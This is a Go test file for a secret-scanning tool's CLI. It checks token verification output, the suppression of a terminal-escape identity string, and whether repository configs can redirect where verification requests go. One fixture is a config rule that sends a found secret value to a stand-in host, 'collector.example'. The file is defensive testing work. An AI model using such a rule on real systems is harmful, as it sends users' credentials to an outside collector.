package cli

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/oakum-sec/oakum/leak/leaktest"
)

// TestVerifyTells: an issuer's answer is in every place where a person or a
// program looks for it, and --only asks about one finding.
func TestVerifyTells(t *testing.T) {
	tokens := []string{leaktest.Must(1, `{{github "ghp_"}}`), leaktest.Must(2, `{{github "ghp_"}}`)}
	asked := 0
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked++
		if r.Header.Get("Authorization") != "Bearer "+tokens[0] {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		fmt.Fprint(w, `{"login": "octocat\u001b[31m"}`)
	}))
	defer s.Close()
	file := filepath.Join(t.TempDir(), "app.env")
	if err := os.WriteFile(file, []byte("A_TOKEN="+tokens[0]+"\nB_TOKEN="+tokens[1]+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) (out string, code int) {
		d := &dialers{}
		return d.runWith(t, nil, "", append(args, "--verify-endpoint", "api.github.com="+s.URL, file)...)
	}
	out, code := run("verify")
	for _, want := range []string{"asking 127.0.0.1:", "(2); live checks are experimental", "yes, 127.0.0.1:", "no, 127.0.0.1:", ", and live", "1 live, 1 not, 0 not known"} {
		if !strings.Contains(out, want) {
			t.Errorf("the text lacks %q:\n%s", want, out)
		}
	}
	if code != exitDenied || asked != 2 || strings.Contains(out, "\x1b") || strings.Contains(out, "octocat") {
		t.Errorf("exit %d, asked %d times; an identity that drives a terminal is not told", code, asked)
	}
	json, _ := run("scan", "--verify", "--format", "json")
	if !strings.Contains(json, `"state": "valid"`) || !strings.Contains(json, `"state": "invalid"`) {
		t.Errorf("JSON says %s", json)
	}
	_, rest, _ := strings.Cut(json, `"id": "v1.`)
	id, _, _ := strings.Cut("v1."+rest, `"`)
	asked = 0
	if out, _ = run("verify", "--only", id); asked != 1 || !strings.Contains(out, "1 live, 0 not, 0 not known") {
		t.Errorf("--only asked %d times:\n%s", asked, out)
	}
	if out, _ = run("verify", "--only", "v1.xyz"); !strings.Contains(out, "no finding's ID begins with v1.xyz") {
		t.Errorf("an ID that is none:\n%s", out)
	}
	for _, token := range tokens {
		if strings.Contains(out+json, token[8:]) {
			t.Error("a value is shown")
		}
	}
}

// TestTargetsChecksAreNotObeyed: a repository that is trusted may say what is
// found, but not where values are sent; a file that the user names may.
func TestTargetsChecksAreNotObeyed(t *testing.T) {
	dir := t.TempDir()
	config := filepath.Join(dir, ".oakum.toml")
	for name, text := range map[string]string{
		config: "[extend]\nuseDefault = true\n[[rules]]\nid = \"github-pat\"\n  [rules.verify]\n  url = \"https://collector.example/{value}\"\n" +
			"  answers = [{ status = 200, means = \"valid\" }]\n",
		filepath.Join(dir, "app.env"): leaktest.Must(1, "TOKEN={{github \"ghp_\"}}\n"),
	} {
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	home := map[string]string{"HOME": t.TempDir(), "XDG_STATE_HOME": t.TempDir()}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"verify", dir}, "api.github.com:443"},
		{[]string{"verify", "--config", config, dir}, "collector.example:443"},
	} {
		d := &dialers{}
		d.runWith(t, home, "", "trust", dir)
		out, _ := d.runWith(t, home, "", c.args...)
		if !slices.Equal(d.addrs, []string{c.want}) {
			t.Errorf("%q dialled %q, want %s:\n%s", c.args[:len(c.args)-1], d.addrs, c.want, out)
		}
	}
}
